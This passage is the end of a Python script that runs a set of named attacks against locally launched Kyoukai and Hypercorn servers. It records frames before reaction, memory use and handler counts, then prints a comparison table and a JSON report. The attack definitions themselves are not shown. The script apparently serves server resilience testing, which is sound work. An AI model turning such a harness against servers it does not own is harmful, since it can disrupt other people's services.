        frames_before_reaction=outcome.frames,
        seconds_to_reaction=None if outcome.seconds is None else round(outcome.seconds, 3),
        peak_rss_mib=None if rss is None else round(rss / 1024, 1),
        handlers=stats,
        second_client_during=(probe.during or "not probed") if not tls else "n/a (TLS)",
        second_client_after=after,
        note=outcome.note,
    )


def table(results: list[Result]) -> str:
    head = (
        "attack",
        "server",
        "outcome",
        "frames before reaction",
        "to reaction",
        "peak RSS",
        "handlers started/max/cancelled",
        "2nd client during",
        "after",
        "note",
    )
    rows = [head]
    for r in results:
        handlers = (
            "-"
            if r.handlers is None
            else f"{r.handlers['started']}/{r.handlers['max_running']}/{r.handlers['cancelled']}"
        )
        rows.append(
            (
                r.attack,
                r.server,
                r.outcome,
                "-" if r.frames_before_reaction is None else str(r.frames_before_reaction),
                "-" if r.seconds_to_reaction is None else f"{r.seconds_to_reaction:.3f} s",
                "-" if r.peak_rss_mib is None else f"{r.peak_rss_mib:.1f} MiB",
                handlers,
                r.second_client_during,
                r.second_client_after,
                r.note,
            )
        )
    widths = [max(len(row[i]) for row in rows) for i in range(len(head))]
    lines = ["| " + " | ".join(cell.ljust(w) for cell, w in zip(row, widths, strict=True)) + " |" for row in rows]
    lines.insert(1, "|" + "|".join("-" * (w + 2) for w in widths) + "|")
    return "\n".join(lines)


def versions() -> dict[str, str]:
    from importlib.metadata import version

    return {name: version(name) for name in ("kyoukai", "hypercorn", "h2", "hpack", "httpx")}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", action="append", choices=sorted(ATTACKS), help="run this attack (repeatable)")
    parser.add_argument("--servers", default="kyoukai,hypercorn", help="comma-separated: kyoukai,hypercorn")
    parser.add_argument("--list", action="store_true", help="list the attacks and exit")
    parser.add_argument("--output", type=Path, default=RESULTS / "attacks.json")
    parser.add_argument("--logs", type=Path, help="keep the servers' output in this folder")
    parser.add_argument("--serve", choices=("kyoukai",), help=argparse.SUPPRESS)
    parser.add_argument("--port", type=int, help=argparse.SUPPRESS)
    parser.add_argument("--certfile", help=argparse.SUPPRESS)
    parser.add_argument("--keyfile", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.serve:
        serve_kyoukai(args.port, args.certfile, args.keyfile)
        return
    if args.list:
        for name, (_, description, _) in ATTACKS.items():
            print(f"{name:34} {description}")
        return
    names = args.only or list(ATTACKS)
    servers = [s.strip() for s in args.servers.split(",") if s.strip()]
    results: list[Result] = []
    with tempfile.TemporaryDirectory(prefix="kyoukai-attacks-") as tmp:
        certs = make_certificate(Path(tmp))
        logs = args.logs or Path(tmp)
        logs.mkdir(parents=True, exist_ok=True)
        for name in names:
            for server in servers:
                print(f"{name} on {server} ...", file=sys.stderr, flush=True)
                results.append(run_attack(name, server, certs, logs))
    text = table(results)
    print(text)
    args.output.parent.mkdir(parents=True, exist_ok=True)
    report = {
        "date": datetime.datetime.now(datetime.UTC).isoformat(timespec="seconds"),
        "settings": "defaults of both servers (Kyoukai ServerSettings(); Hypercorn Config(), --workers 0)",
        "versions": versions(),
        "attacks": {name: description for name, (_, description, _) in ATTACKS.items() if name in names},
        "results": [asdict(r) for r in results],
        "table": text,
    }
    args.output.write_text(json.dumps(report, indent=2) + "\n")
    print(f"\nwritten to {args.output}", file=sys.stderr)


if __name__ == "__main__":
    main()
